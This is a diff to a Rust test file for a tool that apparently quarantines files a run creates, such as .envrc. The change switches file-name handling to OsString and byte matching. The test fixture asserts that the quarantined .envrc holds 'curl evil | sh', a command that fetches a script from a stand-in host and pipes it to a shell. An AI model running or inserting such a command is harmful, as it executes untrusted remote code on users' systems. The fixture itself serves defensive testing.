@@ -22,12 +22,17 @@ use common::*;
 const MOVED: &str = "was moved aside to";
 const QUARANTINE: &str = ".stockade-quarantine-";
 
-/// The names in `dir` that are quarantined entries.
-fn quarantined(dir: &Path) -> Vec<String> {
+/// The names in `dir` that are quarantined entries, as the directory
+/// holds them (they are opened afterwards).
+fn quarantined(dir: &Path) -> Vec<std::ffi::OsString> {
     fs::read_dir(dir)
         .unwrap()
-        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
-        .filter(|n| n.contains(QUARANTINE))
+        .map(|e| e.unwrap().file_name())
+        .filter(|n| {
+            n.as_encoded_bytes()
+                .windows(QUARANTINE.len())
+                .any(|w| w == QUARANTINE.as_bytes())
+        })
         .collect()
 }
 
@@ -226,7 +231,10 @@ fn an_envrc_the_run_creates_is_set_aside_and_reported() {
             }
             let aside = quarantined(p);
             assert_eq!(aside.len(), 2, "{aside:?}");
-            let envrc = aside.iter().find(|n| n.starts_with(".envrc.")).unwrap();
+            let envrc = aside
+                .iter()
+                .find(|n| n.as_encoded_bytes().starts_with(b".envrc."))
+                .unwrap();
             assert_eq!(
                 fs::read_to_string(p.join(envrc)).unwrap(),
                 "curl evil | sh\n",
